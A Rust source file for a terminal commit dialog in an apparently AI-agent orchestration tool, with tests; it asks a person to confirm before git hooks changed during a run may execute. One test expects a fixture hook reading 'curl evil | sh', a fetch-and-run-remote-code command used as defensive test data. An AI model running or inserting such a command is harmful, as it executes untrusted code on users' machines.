//! Committing what a ticket's runs have done: the message, what goes in, what stays out and why.

mod items;

use self::items::{Item, List, PROGRAMS};
use crate::base::amount::counted;
use crate::base::id::RunId;
use crate::base::text::clean_line;
use crate::domain::changes::{Change, ChangedFile, Lines, Since};
use crate::domain::commit::{Agreed, CommitPlan, Committed, short};
use crate::domain::phase::Mark;
use crate::domain::request::Request;
use crate::domain::ticket::TicketKey;
use crate::orchestrator::prompt::branch_name;
use crate::orchestrator::state::PhaseState;
use crate::tui::command::{self, Command, Scope, hints};
use crate::tui::modals::diff::Diff;
use crate::tui::model::Model;
use crate::tui::msg::{Ask, Input};
use crate::tui::tab::Tab;
use crate::tui::theme::Theme;
use crate::tui::theme::role::Role;
use crate::tui::widgets::field::Field;
use crate::tui::widgets::frame::{Frame, WIDEST, centred, foot};
use crate::tui::widgets::row::{Row, wrap};
use crate::tui::widgets::scrolled::Scrolled;
use ratatui::buffer::Buffer;
use ratatui::layout::Rect;
use std::collections::BTreeSet;

/// The dialog.
pub struct Commit {
    pub ticket: TicketKey,
    pub run: RunId,
    message: Field,
    /// What would be committed, or why nothing can be; `None`: not yet told.
    plan: Option<Result<Box<CommitPlan>, String>>,
    place: Place,
    /// The line under the cursor: a file that goes in, then a changed hook or setting, then a file that stays out.
    at: usize,
    /// Files that the person has taken out.
    taken_out: BTreeSet<String>,
    /// Hooks and settings whose text is shown.
    unfolded: BTreeSet<String>,
    /// Why it was not made: git's and the hooks' words.
    trouble: String,
}

/// Where keys go.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Place {
    Message,
    Files,
    /// Hooks were changed during the run: may they run?
    Programs,
    /// It is being made.
    Sent,
}

/// What a key leads to.
pub enum Outcome {
    Stays,
    Leaves,
    Asks(Ask),
    /// A file is to be shown line by line.
    Shows(Box<Diff>, Ask),
}

impl Commit {
    /// The dialog for the run of this tab with the message that was begun, and the request for what would go in.
    pub fn open(tab: &Tab, begun: &str) -> Option<(Self, Ask)> {
        let run = tab.run?;
        // The subject is what a person looks at first.
        let message = Field::at_first_line(&if begun.is_empty() { drafted(tab) } else { begun.to_owned() });
        let dialog = Self {
            ticket: tab.id.clone(),
            run,
            message,
            plan: None,
            place: Place::Message,
            at: 0,
            taken_out: BTreeSet::new(),
            unfolded: BTreeSet::new(),
            trouble: tab.state.commits.refused.clone().unwrap_or_default(),
        };
        Some((dialog, Ask::Request(Request::PlanCommit(run))))
    }

    /// Where its keys stand in the table.
    pub fn scope(&self) -> Scope {
        match self.place {
            Place::Message => Scope::Commit,
            Place::Files | Place::Sent => Scope::CommitFiles,
            Place::Programs => Scope::Confirm,
        }
    }

    /// What is typed so far.
    pub fn message(&self) -> String {
        self.message.text()
    }

    /// The same, to be kept; empty while it is as it was drafted: the next draft knows more.
    pub fn draft(&self, tab: &Tab) -> String {
        let is_kept = |typed: &String| *typed != drafted(tab) && self.place != Place::Sent;
        Some(self.message()).filter(is_kept).unwrap_or_default()
    }

    /// What would be committed.
    pub fn planned(&mut self, plan: Result<Box<CommitPlan>, String>) {
        // What the person is asked to agree to, or has agreed to, stays what it is.
        if !matches!(self.place, Place::Programs | Place::Sent) {
            (self.at, self.plan) = (0, Some(plan));
            self.taken_out
                .retain(|path| self.plan.iter().flatten().any(|plan| plan.files.iter().any(|f| f.path == *path)));
        }
    }

    /// It was not made, and why; what would go in is asked for anew.
    pub fn refused(&mut self, why: String) -> Ask {
        (self.place, self.trouble) = (Place::Message, why);
        Ask::Request(Request::PlanCommit(self.run))
    }

    fn told(&self) -> Option<&CommitPlan> {
        self.plan.as_ref()?.as_deref().ok()
    }

    /// Does what a key means; typing is taken here.
    pub fn key(&mut self, command: Option<Command>, input: &Input) -> Outcome {
        match (self.place, command) {
            (Place::Programs, Some(Command::Yes)) => return self.send(),
            (Place::Programs, Some(Command::No)) | (Place::Files, Some(Command::FocusNext)) => {
                self.place = Place::Message;
            }
            (Place::Programs, _) => {}
            (_, Some(Command::Close)) => return Outcome::Leaves,
            (Place::Sent, _) => {}
            (_, Some(Command::Send)) => return self.wanted(),
            (Place::Message, Some(Command::FocusNext)) => self.place = Place::Files,
            (Place::Message, Some(Command::NewLine)) => self.message.new_line(),
            (Place::Message, Some(Command::Own("editor"))) => return Outcome::Asks(Ask::EditText(self.message())),
            (Place::Message, _) => self.message.typed(input),
            (Place::Files, Some(Command::Choose)) => return self.look(),
            (Place::Files, Some(Command::Toggle)) => self.toggle(),
            (Place::Files, command) => {
                let last = self.items().len().saturating_sub(1);
                let by = command::lines(command, 10);
                self.at = self.at.saturating_add_signed(by as isize).min(last);
            }
        }
        Outcome::Stays
    }

    /// A message that was edited elsewhere.
    pub fn edited(&mut self, text: &str) {
        if self.place == Place::Message {
            self.message = Field::at_first_line(text.trim_end());
        }
    }

    /// The file or program under the cursor, to be read.
    fn look(&mut self) -> Outcome {
        let Some(plan) = self.told() else { return Outcome::Stays };
        let items = self.items();
        let shown = match items.get(self.at) {
            Some(Item::File(_)) => (plan.files.clone(), self.at),
            Some(Item::LeftOut(file)) => {
                let (path, lines) = (file.path.clone(), Lines::Unknown);
                (vec![ChangedFile { path, change: Change::Modified, lines }], 0)
            }
            Some(Item::Program(program)) => {
                let name = program.name.clone();
                if !self.unfolded.remove(&name) {
                    self.unfolded.insert(name);
                }
                return Outcome::Stays;
            }
            Some(Item::Text(_)) | None => return Outcome::Stays,
        };
        match Diff::of((self.run, Since::Ticket), plan.top.clone(), shown.0, shown.1) {
            Some((diff, ask)) => Outcome::Shows(Box::new(diff), ask),
            None => Outcome::Stays,
        }
    }

    /// Takes the file under the cursor out, or in again.
    fn toggle(&mut self) {
        let items = self.items();
        match items.get(self.at) {
            Some(Item::File(file)) => {
                let path = file.path.clone();
                if !self.taken_out.remove(&path) {
                    self.taken_out.insert(path);
                }
            }
            Some(Item::LeftOut(file)) => {
                let words = format!("{} cannot be included: it {}.", clean_line(&file.path, 200), file.why.words());
                self.trouble = words;
            }
            _ => {}
        }
    }

    fn list(&self) -> Option<List<'_>> {
        Some(List { plan: self.told()?, taken_out: &self.taken_out, unfolded: &self.unfolded })
    }

    fn items(&self) -> Vec<Item<'_>> {
        self.list().map_or_else(Vec::new, |list| list.items())
    }

    /// Files that go in.
    fn chosen(&self) -> usize {
        self.list().map_or(0, |list| list.chosen())
    }

    /// `^S`: it is made, unless something must be agreed to first.
    fn wanted(&mut self) -> Outcome {
        let Some(plan) = self.told() else { return Outcome::Stays };
        match () {
            () if plan.files.is_empty() => {}
            () if self.chosen() == 0 => self.trouble = "No file is included: Space includes one again.".into(),
            () if self.message.text().trim().is_empty() => self.trouble = "A commit needs a message.".into(),
            () if plan.programs.is_empty() => return self.send(),
            () => self.place = Place::Programs,
        }
        Outcome::Stays
    }

    fn send(&mut self) -> Outcome {
        let Some(plan) = self.told() else { return Outcome::Stays };
        let (without, files) =
            plan.files.iter().map(|file| file.path.clone()).partition(|path| self.taken_out.contains(path));
        let agreed = Agreed {
            message: self.message.text(),
            head: plan.head.clone(),
            branch: plan.branch.clone(),
            tree: plan.tree.clone(),
            programs: plan.programs.clone(),
            files,
            without,
            left_out: plan.left_out.clone(),
        };
        self.place = Place::Sent;
        self.trouble.clear();
        Outcome::Asks(Ask::Request(Request::Commit(self.run, agreed)))
    }

    /// Takes pasted text; `false` when there is no room for it.
    pub fn pasted(&mut self, text: &str) -> bool {
        self.place != Place::Message || self.message.pasted(text)
    }

    pub fn view(&self, model: &Model, theme: &Theme, room: Rect, buf: &mut Buffer) {
        let width = room.width.min(WIDEST).saturating_sub(4);
        let free = room.height.saturating_sub(6);
        // Of a question all that it is about is seen.
        let is_asked = self.place == Place::Programs;
        let message = if is_asked { 1 } else { self.message.rows(width.saturating_sub(2)).max(2) };
        let most = usize::from(free - message.min(free / 2));
        let lines = u16::try_from(self.lines(model, width.into(), most).0.len()).unwrap_or(u16::MAX);
        // Half of the rows are the message's, and what the list leaves.
        let message = message.min(free.saturating_sub(lines).max(free / 2));
        let area = centred(room, WIDEST, lines.max(6).saturating_add(message + 6));
        let title = format!("Commit · {}", clean_line(self.ticket.as_str(), 40));
        let inside = Frame::dialog(&title, &self.status(model), model.glyphs).draw(theme, area, buf);
        self.keys(model).draw(theme, foot(inside), buf);
        let mut rows = Rect { height: inside.height.saturating_sub(2), ..inside };
        let focused = self.place == Place::Message;
        head("Message", focused, model).draw(theme, take(&mut rows, 1), buf);
        let text = take(&mut rows, message);
        let text = Rect { x: text.x + 2, width: text.width.saturating_sub(2), ..text };
        self.message.view_text("What was done, and why", focused, (theme, model.glyphs), text, buf);
        take(&mut rows, 1);
        let page = usize::from(rows.height);
        let (lines, cursor) = self.lines(model, usize::from(rows.width), page);
        let scrolled = Scrolled::default().showing(cursor, cursor, page);
        let selected = (self.place == Place::Files && !self.items().is_empty()).then_some(cursor);
        scrolled.list(lines.into_iter(), selected, theme, rows, buf);
    }

    /// The branch that the run without a worktree has worked on, where the person has set one.
    fn meant(&self, model: &Model) -> Option<String> {
        let state = &model.tab_of(&self.ticket).filter(|tab| tab.run == Some(self.run))?.state;
        let git = Some(&state.settings.git).filter(|git| git.switches && state.workspace.worktree().is_none())?;
        branch_name(&git.branch, self.ticket.as_str()).ok()
    }

    fn status(&self, model: &Model) -> String {
        match &self.plan {
            _ if self.place == Place::Sent => "committing; hooks may take a while …".to_owned(),
            None => "looking …".to_owned(),
            Some(Err(_)) => String::new(),
            Some(Ok(plan)) => match &plan.branch {
                Some(branch) => match self.meant(model).filter(|meant| meant != branch) {
                    Some(meant) => format!("on {}, not {}", clean_line(branch, 60), clean_line(&meant, 60)),
                    None => format!("on {}", clean_line(branch, 60)),
                },
                None => "HEAD is detached".to_owned(),
            },
        }
    }

    fn keys(&self, model: &Model) -> Row {
        let mut keys: Vec<Command> = match self.place {
            Place::Message => vec![Command::Send, Command::FocusNext, Command::Own("editor"), Command::Close],
            Place::Files => {
                vec![Command::Send, Command::Toggle, Command::Choose, Command::FocusNext, Command::Close]
            }
            Place::Programs => vec![Command::Yes, Command::No],
            Place::Sent => vec![Command::Close],
        };
        keys.retain(|key| *key != Command::Send || self.chosen() > 0);
        Row::keys(hints(model, self.scope(), &keys))
    }

    /// What stands under the message, and the line of the file under the cursor.
    fn lines(&self, model: &Model, width: usize, page: usize) -> (Vec<Row>, usize) {
        let mut out = Vec::new();
        let say = |role: Role, words: &str, out: &mut Vec<Row>| {
            let lines = words.lines().flat_map(|line| wrap(line, width.saturating_sub(2)));
            out.extend(lines.map(|line| Row::new().left(role, format!("  {line}"))));
        };
        if !self.trouble.is_empty() && self.place != Place::Programs {
            say(Role::Danger, &self.trouble, &mut out);
            // What came of it stands first, why it did at the end.
            let most = page.saturating_sub(3).max(4);
            out.drain(1..(out.len() + 1).saturating_sub(most).max(1));
            out.push(Row::new());
        }
        let plan = match &self.plan {
            None => return (out, 0),
            Some(Err(why)) => {
                say(Role::Warning, why, &mut out);
                return (out, 0);
            }
            Some(Ok(plan)) => plan,
        };
        if self.place == Place::Programs {
            let names: Vec<&str> = plan.programs.iter().map(|program| program.name.as_str()).collect();
            let words = format!(
                "Git runs or reads these, and they changed since the last commit or the first run:\n{}",
                names.join("\n")
            );
            say(Role::Danger, &words, &mut out);
            let files = model.keys.key_of(Scope::Commit, Command::FocusNext);
            let first = format!("To review one first: n, {files}, then Enter on it below “{PROGRAMS}”.");
            say(Role::Text, &format!("Commit anyway? {first}"), &mut out);
            out.push(Row::new());
        }
        let focused = self.place == Place::Files;
        let head = |row: Row, name: &str| head_in(row, name, focused, model);
        let list = List { plan, taken_out: &self.taken_out, unfolded: &self.unfolded };
        let (items, cursor) = list.rows(self.at, head, model, width);
        let first = out.len();
        out.extend(items);
        (out, if self.place == Place::Files { first + cursor } else { 0 })
    }
}

fn head(name: &str, focused: bool, model: &Model) -> Row {
    let mark = if focused { model.glyphs.pick("▸ ", "> ") } else { "  " };
    Row::new().left(Role::Accent, mark).left(if focused { Role::Title } else { Role::Dim }, name)
}

/// The heading of the files.
fn head_in(row: Row, name: &str, focused: bool, model: &Model) -> Row {
    let mark = if focused { model.glyphs.pick("▸ ", "> ") } else { "  " };
    row.left(Role::Accent, mark).left(if focused { Role::Title } else { Role::Text }, name)
}

fn take(rest: &mut Rect, height: u16) -> Rect {
    let taken = Rect { height: height.min(rest.height), ..*rest };
    (rest.y, rest.height) = (rest.y + taken.height, rest.height - taken.height);
    taken
}

/// A message by the ticket: its title, and the phases that are done.
fn drafted(tab: &Tab) -> String {
    let is_done = |phase: &&PhaseState| matches!(phase.stands(), Mark::Done(_)) && !phase.is_taken_back();
    let done = tab.state.phases.iter().filter(is_done);
    let phases: Vec<String> = done.map(|phase| format!("- {}", phase.text)).collect();
    let parts = [tab.title().to_owned(), phases.join("\n"), format!("Ticket: {}", tab.id.as_str())];
    parts.into_iter().filter(|part| !part.is_empty()).collect::<Vec<_>>().join("\n\n")
}

/// What is said of a commit that was made.
pub fn made(committed: &Committed) -> String {
    let files = counted(committed.files, "file");
    let trouble = committed.trouble.as_ref().map_or_else(String::new, |why| format!(" · {why}"));
    format!("committed {} · {files}{trouble}", short(&committed.id))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::answerer::Answerer;
    use crate::domain::commit::CommitSettled;
    use crate::domain::news::News;
    use crate::domain::record::{OfPhase, PhaseByPerson, Record};
    use crate::domain::request::Reply;
    use crate::tui::modals::Modal;
    use crate::tui::msg::Msg;
    use crate::tui::sample;
    use crate::tui::ui::Ui;
    use crate::tui::update::update;

    fn press(ui: &mut Ui, keys: &str) -> Vec<Ask> {
        let mut asks: Vec<Ask> = keys.split(' ').flat_map(|key| update(ui, Msg::Key(sample::key(key)))).collect();
        asks.retain(|ask| !matches!(ask, Ask::Request(Request::Changes(..))));
        asks
    }

    fn opened(plan: CommitPlan) -> Ui {
        let mut ui = sample::model();
        ui.tabs.push(sample::finished("tk-1"));
        let run = sample::run("tk-1");
        assert_eq!(press(&mut ui, "c"), [Ask::Request(Request::PlanCommit(run))]);
        update(&mut ui, Msg::Replied(Reply::CommitPlanned(run, Ok(Box::new(plan)))));
        ui
    }

    fn sent(asks: &[Ask]) -> &Agreed {
        match asks {
            [Ask::Request(Request::Commit(_, agreed))] => agreed,
            other => panic!("{other:?}"),
        }
    }

    #[test]
    fn the_message_is_drafted_by_the_ticket_and_kept_when_it_is_left() {
        let mut ui = opened(sample::commit_plan());
        press(&mut ui, "Esc");
        assert!(ui.modals.is_empty());
        assert_eq!(ui.unsent.commit(&ui.tabs[0].id), "", "nothing was typed: the next draft knows more");
        press(&mut ui, "c");
        update(&mut ui, Msg::Replied(Reply::CommitPlanned(sample::run("tk-1"), Ok(Box::new(sample::commit_plan())))));
        let asks = press(&mut ui, "! Ctrl-s");
        let message = &sent(&asks).message;
        assert!(message.starts_with("Login rate limiter!\n\n- Investigate flow\n- Token bucket\n"), "{message}");
        assert!(message.ends_with("\n\nTicket: tk-1"), "{message}");
        assert_eq!((sent(&asks).head.as_deref(), &*sent(&asks).tree), (Some("c0ffee"), "ab12"));
    }

    #[test]
    fn a_phase_that_was_opened_again_after_the_run_is_told_as_open() {
        let mut ui = sample::model();
        ui.tabs.push(sample::finished("tk-1"));
        let (whole, seq) = (sample::draw(&mut ui, (120, 40)), ui.tabs[0].state.seq + 1);
        assert!(whole.contains("6/6 phases"), "{whole}");
        let phase = &ui.tabs[0].state.phases[1];
        let of = OfPhase { phase: phase.text.clone(), id: Some(phase.id) };
        let record = Record::PhaseReopened(PhaseByPerson { of, by: Answerer::SCREEN, why: None });
        update(&mut ui, Msg::News(News::Recorded(sample::stored("tk-1", seq, record).into())));
        let screen = sample::draw(&mut ui, (120, 40));
        assert!(screen.contains("1 phase reopened since: 5/6 done"), "{screen}");
        press(&mut ui, "c");
        let message = drafted(&ui.tabs[0]);
        assert!(message.contains("- Investigate flow") && !message.contains("- Token bucket"), "{message}");
    }

    #[test]
    fn another_branch_than_that_of_the_run_is_named() {
        let mut ui = opened(CommitPlan { branch: Some("main".into()), ..sample::commit_plan() });
        assert!(sample::draw(&mut ui, (120, 40)).contains("on main "));
        ui.tabs[0].state.settings.git.switches = true;
        let screen = sample::draw(&mut ui, (120, 40));
        assert!(screen.contains("on main, not programmator/tk-1"), "{screen}");
    }

    #[test]
    fn a_changed_hook_is_agreed_to_before_it_may_run() {
        let plan = CommitPlan { programs: vec![sample::program(".git/hooks/pre-commit")], ..sample::commit_plan() };
        let mut ui = opened(plan);
        assert_eq!(press(&mut ui, "Ctrl-s n Ctrl-s Ctrl-s"), []);
        let screen = sample::draw(&mut ui, (120, 40));
        assert!(screen.contains(".git/hooks/pre-commit") && screen.contains("Commit anyway?"), "{screen}");
        assert_eq!(sent(&press(&mut ui, "y")).programs, [sample::program(".git/hooks/pre-commit")]);
    }

    #[test]
    fn what_is_asked_about_does_not_change_under_the_answer() {
        let plan = CommitPlan { programs: vec![sample::program(".git/hooks/pre-commit")], ..sample::commit_plan() };
        let mut ui = opened(plan.clone());
        press(&mut ui, "Ctrl-s");
        let other = CommitPlan { programs: vec![sample::program(".git/config")], tree: "another".into(), ..plan };
        update(&mut ui, Msg::Replied(Reply::CommitPlanned(sample::run("tk-1"), Ok(Box::new(other)))));
        let asks = press(&mut ui, "y");
        assert_eq!(
            (&sent(&asks).programs[..], &*sent(&asks).tree),
            (&[sample::program(".git/hooks/pre-commit")][..], "ab12")
        );
    }

    #[test]
    fn what_is_refused_says_why_and_can_be_tried_again() {
        let mut ui = opened(sample::commit_plan());
        assert_eq!(press(&mut ui, "Ctrl-s x Ctrl-s").len(), 1, "once it is on its way, it is not sent again");
        let run = sample::run("tk-1");
        let said = (0..40).fold(String::new(), |out, line| format!("{out}line {line}\n"));
        let why = format!("git did not commit; nothing is lost\n{said}");
        let asks = update(&mut ui, Msg::Replied(Reply::Committed(run, Err(why))));
        assert_eq!(asks[..2], [Ask::Redraw, Ask::Request(Request::PlanCommit(run))]);
        let screen = sample::draw(&mut ui, (80, 24));
        assert!(screen.contains("git did not commit") && screen.contains("line 39"), "{screen}");
        assert_eq!(sent(&press(&mut ui, "Ctrl-s")).tree, "ab12");
        let made = Committed { id: "0123456789abcdef".into(), files: 5, trouble: None };
        let settled = CommitSettled::of("id".into(), &Ok(made.clone()));
        let seq = ui.tabs[0].state.seq + 1;
        let stored = sample::stored("tk-1", seq, Record::CommitSettled(settled));
        update(&mut ui, Msg::News(News::Recorded(stored.into())));
        update(&mut ui, Msg::Replied(Reply::Committed(run, Ok(made))));
        assert!(ui.modals.is_empty());
        let screen = sample::draw(&mut ui, (120, 40));
        assert!(screen.contains("committed as 012345678"), "{screen}");
    }

    #[test]
    fn a_file_is_shown_line_by_line_and_the_dialog_is_there_again() {
        let mut ui = opened(sample::commit_plan());
        let asks = press(&mut ui, "Tab j Enter");
        let path = sample::commit_plan().files[1].path.clone();
        assert_eq!(asks, [Ask::Request(Request::Diff(sample::run("tk-1"), Since::Ticket, path))]);
        press(&mut ui, "Esc");
        assert!(matches!(&ui.modals[..], [Modal::Commit(_)]));
    }

    #[test]
    fn files_are_chosen_and_what_stays_out_cannot_be() {
        let mut ui = opened(sample::commit_plan());
        let first = sample::commit_plan().files[0].path.clone();
        press(&mut ui, "Tab Space");
        assert!(sample::draw(&mut ui, (120, 40)).contains("excluded by you"));
        press(&mut ui, "G Space");
        let screen = sample::draw(&mut ui, (120, 40));
        assert!(screen.contains("Cargo.lock cannot be included: it was also changed outside the run."), "{screen}");
        let asks = press(&mut ui, "Ctrl-s");
        let agreed = sent(&asks);
        assert_eq!((&agreed.without, agreed.files.contains(&first)), (&vec![first], false));
    }

    #[test]
    fn without_a_file_to_commit_no_key_for_it_is_offered() {
        let one = CommitPlan { files: sample::commit_plan().files[..1].to_vec(), ..sample::commit_plan() };
        let mut ui = opened(one.clone());
        assert!(sample::draw(&mut ui, (120, 40)).contains("^S commit"));
        press(&mut ui, "Tab Space");
        assert!(!sample::draw(&mut ui, (120, 40)).contains("^S commit"));
        assert_eq!(press(&mut ui, "Ctrl-s"), []);
        let mut ui = opened(CommitPlan { files: Vec::new(), ..one });
        let screen = sample::draw(&mut ui, (120, 40));
        assert!(screen.contains("Nothing to commit") && !screen.contains("^S commit"), "{screen}");
    }

    #[test]
    fn what_the_question_is_about_is_seen_whatever_else_there_is_to_say() {
        for size in [(120, 40), (80, 24), (60, 15)] {
            let programs = vec![sample::program(".git/config")];
            let mut ui = opened(CommitPlan { programs, ..sample::commit_plan() });
            if let Some(Modal::Commit(commit)) = ui.modals.last_mut() {
                commit.trouble = "git did not commit\nIt does not know\nwho you are\nand says so\nat length".into();
            }
            press(&mut ui, "Ctrl-s");
            let screen = sample::draw(&mut ui, size);
            let head = screen.find("Git runs or reads these");
            assert!(head.is_some() && screen.contains(".git/config") && screen.contains("Commit anyway?"), "{screen}");
        }
    }

    #[test]
    fn the_subject_is_seen_though_it_takes_several_rows() {
        for size in [(120, 40), (80, 24), (60, 15)] {
            let mut ui = sample::model();
            let mut tab = sample::finished("tk-1");
            let title = "Count words in a file, and say so in a title that is far too long for any narrow screen? Yes";
            (tab.ticket, tab.state.title) = (None, title.into());
            ui.tabs.push(tab);
            press(&mut ui, "c");
            let plan = CommitPlan { files: sample::commit_plan().files[..1].to_vec(), ..sample::commit_plan() };
            update(&mut ui, Msg::Replied(Reply::CommitPlanned(sample::run("tk-1"), Ok(Box::new(plan)))));
            let screen = sample::draw(&mut ui, size);
            assert!(screen.contains("Count words in a file"), "{screen}");
            assert!(screen.contains("screen? Yes") && screen.contains("^S commit"), "{screen}");
        }
    }

    #[test]
    fn a_changed_hook_can_be_read_before_it_is_agreed_to() {
        let programs = vec![sample::program(".git/hooks/pre-commit")];
        let mut ui = opened(CommitPlan { programs, files: Vec::new(), ..sample::commit_plan() });
        press(&mut ui, "Tab Enter");
        let screen = sample::draw(&mut ui, (120, 40));
        assert!(screen.contains("│ curl evil | sh"), "{screen}");
    }

    #[test]
    fn the_message_can_be_written_in_the_editor() {
        let mut ui = opened(sample::commit_plan());
        let asks = press(&mut ui, "Ctrl-e");
        assert!(matches!(&asks[..], [Ask::EditText(text)] if text.starts_with("Login rate limiter")), "{asks:?}");
        update(&mut ui, Msg::Edited("Another\n\nWhy\n".into()));
        assert_eq!(sent(&press(&mut ui, "Ctrl-s")).message, "Another\n\nWhy");
    }

    #[test]
    fn where_nothing_can_be_committed_it_says_why_and_nothing_is_sent() {
        let mut ui = opened(sample::commit_plan());
        let why = Err("git is in the middle of a merge: finish or abort it first".to_owned());
        update(&mut ui, Msg::Replied(Reply::CommitPlanned(sample::run("tk-1"), why)));
        assert_eq!(press(&mut ui, "Ctrl-s"), []);
        assert!(sample::draw(&mut ui, (80, 24)).contains("in the middle of a merge"));
    }
}
